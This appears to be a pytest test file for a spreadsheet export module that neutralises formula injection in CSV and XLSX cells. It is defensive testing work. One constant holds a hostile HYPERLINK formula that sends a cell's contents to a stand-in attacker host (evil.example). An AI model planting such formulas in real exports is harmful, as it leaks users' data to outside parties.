"""The one door every exported or printed text goes through: normalise, then neutralise."""

from __future__ import annotations

import csv
import io
import unicodedata

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rementor.core.exports import Sheet, clean_text, csv_bytes, neutralise_cell, xlsx_bytes

HOSTILE = '\u0001=HYPERLINK("http://evil.example/?x="&B2,"Click")'

# What a formula can hide behind: control, format (zero-width, BOM, bidi) and blank characters.
invisible = st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp"])
# What starts a formula, with the full-width, small and superscript forms folding to it.
starters = st.sampled_from("=+-@＝＋－＠﹦﹢﹣﹫⁼⁺")
texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)


def _is_control(char: str) -> bool:
    return unicodedata.category(char) == "Cc" and char not in "\t\n\r"


def _read_xlsx_cells(content: bytes) -> list[openpyxl.cell.Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in workbook for row in ws.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (HOSTILE, "'" + HOSTILE[1:]),
        ("\u200b\ufeff\u00a0=1+1", "'=1+1"),
        ("\u202e\u2066@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'=1"),
        ("\r\n-2+3", "'-2+3"),
        ("＝1+1", "'＝1+1"),
        ("\rx", "x"),
        ("a\u0001b", "ab"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("Zoé", "Zoé"),
        ("#N/A", "#N/A"),
        ("", ""),
    ],
)
def test_neutralise_cell_normalises_before_neutralising(typed, written):
    assert neutralise_cell(typed) == written


@pytest.mark.parametrize("value", [-3, 2.5, 0, None, True])
def test_neutralise_cell_leaves_numbers_alone(value):
    assert neutralise_cell(value) is value


@given(prefix=st.text(invisible, max_size=12), starter=starters, rest=texts)
def test_neutralise_cell_defuses_a_formula_behind_any_invisible_prefix(prefix, starter, rest):
    written = neutralise_cell(prefix + starter + rest)
    assert written.startswith("'" + starter)
    assert not any(_is_control(char) for char in written)


@given(value=texts)
def test_neutralise_cell_never_lets_a_formula_start_and_is_idempotent(value):
    written = neutralise_cell(value)
    if written:
        first = unicodedata.normalize("NFKC", written[0])[:1]
        assert first not in {"=", "+", "-", "@"}
        assert not (written[0].isspace() or unicodedata.category(written[0]) in {"Cc", "Cf"})
    assert neutralise_cell(written) == written
    assert clean_text(written) == written


@settings(max_examples=25, deadline=None)
@given(prefixes=st.lists(st.text(invisible, max_size=6), min_size=1, max_size=5), rest=texts)
def test_csv_and_xlsx_hold_no_live_formula(prefixes, rest):
    values = [prefix + "=" + rest for prefix in prefixes]
    rows = list(csv.reader(io.StringIO(csv_bytes([values]).decode("utf-8-sig"), newline="")))
    assert all(cell.startswith("'=") for cell in rows[0])

    cells = _read_xlsx_cells(xlsx_bytes([Sheet("S", ["=head"] * len(values), [values])]))
    assert all(cell.data_type == "s" for cell in cells)
    assert all(str(cell.value).startswith("'=") for cell in cells)


def test_xlsx_keeps_numbers_as_numbers_and_text_as_text():
    cells = _read_xlsx_cells(xlsx_bytes([Sheet("S", ["a", "b", "c"], [[-3, "-3", "#N/A"]])]))
    number, text, error_like = cells[3:]
    assert (number.value, number.data_type) == (-3, "n")
    assert (text.value, text.data_type) == ("'-3", "s")
    # openpyxl would store "#N/A" as an error value if it inferred the type from the text.
    assert (error_like.value, error_like.data_type) == ("#N/A", "s")
